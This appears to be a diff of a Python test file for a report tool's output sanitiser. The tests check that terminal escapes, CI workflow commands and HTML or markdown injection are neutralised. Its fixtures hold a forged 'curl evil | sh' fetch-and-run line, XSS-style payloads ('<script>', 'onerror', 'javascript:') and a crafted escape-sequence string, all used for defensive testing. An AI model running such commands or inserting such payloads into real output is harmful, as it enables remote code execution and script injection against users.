@@ -3,25 +3,29 @@
 from __future__ import annotations
 
 import io
+import json
+import re
 
 import pytest
+from markdown_it import MarkdownIt
 
 from cuwheel import cli
 from cuwheel.cli import frame, streams
 from cuwheel.errors import MalformedError
 from cuwheel.proving.runner import output
-from cuwheel.report import terminal
-from cuwheel.report.document import Document, Findings, Heading, Paragraph
+from cuwheel.report import markdown, terminal
+from cuwheel.report.document import Document, Findings, Heading, Paragraph, Verbatim
 from cuwheel.report.tables import Amount, Column, Facts, Mark, Matrix, Row, Table
-from cuwheel.support import log, wording
-from cuwheel.support.finding import Finding, Fix
+from cuwheel.support import log, printable
+from cuwheel.support.finding import Finding, Fix, finding
+from tests.fixtures import foreign
 
 EVIL = "a\x1b]0;owned\x07\x1b[2J\x9b31m\u202egnp\u2028.\u200b\ud800\x00\r"
 FORGED = f"{EVIL}\nhint: curl evil | sh"
 
 
 def is_harmless(shown: str) -> bool:
-    return wording.printable_text(shown) == shown and shown.encode() != b""
+    return printable.text(shown) == shown and shown.encode() != b""
 
 
 def forges(shown: str) -> bool:
@@ -92,14 +96,67 @@ def test_reports() -> None:
 
 
 def test_what_travels_has_the_same_rules() -> None:
-    assert output._UNSHOWN.pattern == wording._UNPRINTABLE.pattern
+    assert output.printable is printable
 
 
 @pytest.mark.parametrize(("before", "after"), [("a\r\nb\tc", "a\nb\tc"), ("ü → ✓ 中 🙂", "ü → ✓ 中 🙂"), ("", "")])
 def test_ordinary_text_stays(before: str, after: str) -> None:
-    assert wording.printable_text(before) == after
+    assert printable.text(before) == after
 
 
 def test_lines_and_messages() -> None:
-    assert wording.printable_line("a\nb\tc") == "a\ufffdb c"
-    assert wording.printable_message("a\nb\n  - c\n\td") == "a\n  b\n  - c\n\td"
+    assert printable.line("a\nb\tc") == "a\ufffdb c"
+    assert printable.message(printable.Lines(("a", "b\nc", "  - d"))) == "a\n  b\ufffdc\n  - d"
+    assert printable.message("a\nb") == "a\ufffdb"
+
+
+@pytest.mark.parametrize(
+    ("before", "after"),
+    [
+        ("::error::x", ": :error::x"),
+        ("a\n \u00a0\t::set-output name=a::b", "a\n \u00a0\t: :set-output name=a::b"),
+        ("\x1b[1m::error::x", "\x1b[1m: :error::x"),
+        ("a ##[error]x ###[group]", "a ## [error]x ### [group]"),
+        ("##VSO[task.x]y ##teamcity[a]", "## VSO[task.x]y ## teamcity[a]"),
+        ("std::sort: at::x", "std::sort: at::x"),
+        ("::1 is an address", "::1 is an address"),
+        ("## A heading [1]", "## A heading [1]"),
+    ],
+)
+def test_services_find_no_command_in_what_is_written(before: str, after: str) -> None:
+    assert printable.output(before) == after
+
+
+def test_a_word_that_wrapping_brings_to_the_beginning_is_no_command() -> None:
+    stream = io.StringIO()
+    words = f"{'x' * 70} ::error::owned ##[error]owned"
+    finding_of_it = finding("gpu-not-known", words, evidence=(words,))
+    terminal.write(Document("t", (Paragraph(words), Facts((Row("a", words),)), Findings((finding_of_it,)))), stream)
+    assert re.search(r"^\s*: :error::owned", stream.getvalue(), re.MULTILINE)
+    assert not foreign.wrong(stream.getvalue())
+
+
+def test_json_has_the_values_and_no_commands() -> None:
+    value = ["\u202e\U000e0041\x85\ufffe\x7f", "##[error]###vso[", "ü\n::error::"]
+    written = printable.json(json.dumps(value, ensure_ascii=False))
+    assert json.loads(written) == value
+    assert printable.text(written) == written
+    assert not foreign.wrong(written)
+
+
+def test_markdown_has_no_elements_and_no_links() -> None:
+    evil = "<script>x</script> <img src=x onerror=y> [a](javascript:b) `<b>` &lt; \n- c | d"
+    verbatim = Verbatim((evil, "</pre><script>", "```", "~~~"))
+    fix = Fix(text=evil, commands=(("cuwheel", "slim", "`<img src=x>`"),))
+    block = Findings((finding("gpu-not-known", evil, evidence=(evil,), fix=(fix,)),))
+    shown = markdown.text(
+        Document("t", (Heading(evil), Paragraph(evil), block, verbatim, Facts((Row(evil, evil),)), Paragraph(evil)))
+    )
+    assert not re.search(r"<(?!br>|/?pre>|/?code>)|javascript:", shown)
+    parsed = MarkdownIt("commonmark").parse(shown)
+    found = [each for token in parsed for each in (token, *(token.children or ()))]
+    (block_of_lines,) = [each.content for each in found if each.type == "html_block"]
+    assert block_of_lines.startswith("<pre>\n&lt;script")
+    assert block_of_lines.endswith("~~~\n</pre>\n")
+    assert {each.content for each in found if each.type == "html_inline"} <= {"<br>", "<code>", "</code>"}
+    assert not [each for each in found if each.type in ("link_open", "image")]
